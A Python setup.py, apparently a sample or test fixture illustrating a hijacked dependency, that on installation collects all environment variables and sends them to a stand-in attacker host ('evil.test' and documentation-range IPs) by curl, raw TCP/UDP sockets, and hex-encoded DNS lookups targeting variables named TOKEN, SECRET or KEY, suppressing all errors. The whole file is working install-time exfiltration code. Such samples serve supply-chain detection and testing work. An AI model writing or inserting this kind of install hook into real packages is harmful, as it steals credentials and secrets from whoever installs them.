"""A package whose installation sends the environment away: what a hijacked dependency does."""

import os
import socket
import subprocess

from setuptools import setup

ATTACKER = "evil.test"
ADDRESSES = [(socket.AF_INET, "203.0.113.66"), (socket.AF_INET6, "2001:db8::66")]
PATIENCE = 3  # seconds that each way may take when nothing answers


def environment():
    return "\n".join(f"{name}={value}" for name, value in sorted(os.environ.items()))


def by_curl():
    subprocess.run(
        ["curl", "--silent", "--insecure", "--max-time", str(PATIENCE),
         "--data-binary", "@-", f"https://{ATTACKER}/collect"],
        input=environment().encode(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False,
    )


def by_raw_socket():
    for family, address in ADDRESSES:
        try:
            with socket.socket(family, socket.SOCK_STREAM) as connection:
                connection.settimeout(PATIENCE)
                connection.connect((address, 4444))
                connection.sendall(environment().encode())
        except OSError:
            pass
        try:
            with socket.socket(family, socket.SOCK_DGRAM) as datagrams:
                datagrams.sendto(environment().encode()[:1200], (address, 5555))
        except OSError:
            pass


def by_dns():
    for name, value in os.environ.items():
        if any(word in name for word in ("TOKEN", "SECRET", "KEY", "CANARY")):
            text = value.encode().hex()
            labels = [text[at:at + 60] for at in range(0, min(len(text), 180), 60)]
            try:
                socket.getaddrinfo(".".join(labels + [ATTACKER]), 80)
            except OSError:
                pass


for way in (by_curl, by_raw_socket, by_dns):
    try:
        way()
    except Exception:  # a thief makes no noise
        pass

setup(name="exfil-helper", version="1.0.0", packages=["exfil_helper"])
